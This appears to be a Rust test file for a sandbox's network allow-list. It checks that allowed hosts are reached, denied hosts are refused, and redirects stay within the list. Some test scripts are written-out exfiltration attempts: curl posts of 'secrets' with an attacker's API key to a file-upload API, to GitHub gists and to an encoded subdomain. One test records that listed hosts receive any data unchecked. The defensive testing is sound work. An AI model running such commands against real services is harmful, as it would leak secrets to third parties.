//! What is let through, and what comes of what is not.

use super::world::World;
use crate::lab::Attacker;

as_each_user! {
    row_01_an_allowed_host_is_reached,
    row_02_a_denied_host_is_refused_and_the_run_goes_on,
    row_16_a_redirect_leads_no_further_than_the_list,
    row_22_another_host_takes_no_data_away,
    row_22_what_remains_a_listed_host_takes_any_data,
}

in_containers! {
    row_01_an_allowed_host_is_reached,
    row_02_a_denied_host_is_refused_and_the_run_goes_on,
    row_16_a_redirect_leads_no_further_than_the_list,
}

/// All other rows mean nothing without it.
async fn row_01_an_allowed_host_is_reached(attacker: Attacker) {
    let world = World::new().await;
    let script = r#"
say("curl", curl("https://allowed.test/"))
say("python", urllib.request.urlopen("https://allowed.test/", timeout=20).read().decode())
say("curl, plain", curl("http://allowed.test/"))
say("python, plain", urllib.request.urlopen("http://allowed.test/", timeout=20).read().decode())
"#;
    let seen = world.attack(attacker, script).await;
    let answers = [("curl", "200 200"), ("python", "hello"), ("curl, plain", "200 000"), ("python, plain", "hello")];
    seen.told.check(&answers);
    assert_eq!(seen.decisions, ["allowed.test:443 allowed x2", "allowed.test:80 allowed x2"]);
    assert_eq!(world.https.heard().matches("GET / HTTP/1.1").count(), 2);
    assert!(!world.http.heard().contains("uthorization"), "the credential stays here");
}

async fn row_02_a_denied_host_is_refused_and_the_run_goes_on(attacker: Attacker) {
    let world = World::new().await;
    let script = r#"
say("https", curl("https://denied.test/"))
say("http", curl("http://denied.test/"))
it, head = talk(tunnel_request("denied.test:443"))
say("told why", "denied.test is not in allowedDomains" in rest(it))
say("then", curl("https://allowed.test/"))
"#;
    let seen = world.attack(attacker, script).await;
    seen.told.check(&[("https", "000 403"), ("http", "403 000"), ("told why", "True"), ("then", "200 200")]);
    let decisions =
        ["allowed.test:443 allowed x1", "denied.test:443 denied NotListed x2", "denied.test:80 denied NotListed x1"];
    assert_eq!(seen.decisions, decisions);
    world.denied.check_untouched();
    assert_eq!(world.names.asked(), ["allowed.test"], "a denied name is not looked up");
}

async fn row_16_a_redirect_leads_no_further_than_the_list(attacker: Attacker) {
    let world = World::new().await;
    let script = r#"
for there in ["http", "https"]:
    for away in ["http", "https"]:
        say(f"{there} to {away}", curl("--location", f"{there}://allowed.test/away/{away}"))
"#;
    let seen = world.attack(attacker, script).await;
    seen.told.check(&[
        ("http to http", "403 000"),
        ("http to https", "000 403"),
        ("https to http", "403 200"),
        ("https to https", "000 403"),
    ]);
    world.denied.check_untouched();
}

/// The API of a model is a host like any other.
async fn row_22_another_host_takes_no_data_away(user: u32) {
    let world = World::new().await;
    let script = r#"
send = ["--data", "secrets", "--header", "x-api-key: of-the-attacker"]
say("files", curl(*send, "https://api.anthropic.com/v1/files"))
say("gist", curl(*send, "https://api.github.com/gists"))
say("in the name", curl(*send, "https://c2VjcmV0.allowed.test/"))
"#;
    let seen = world.attack(user, script).await;
    seen.told.check(&[("files", "000 403"), ("gist", "000 403"), ("in the name", "000 403")]);
    world.denied.check_untouched();
    assert!(world.names.asked().is_empty());
}

/// What goes to a listed host is not looked into: no path, no key.
async fn row_22_what_remains_a_listed_host_takes_any_data(user: u32) {
    let world = World::new().await;
    let script = r#"
say("sent", curl("--data", "secrets", "--header", "x-api-key: of-the-attacker", "https://allowed.test/v1/files"))
"#;
    world.attack(user, script).await.told.check(&[("sent", "200 200")]);
    let heard = world.https.heard();
    assert!(heard.contains("POST /v1/files") && heard.contains("x-api-key: of-the-attacker"), "{heard}");
}
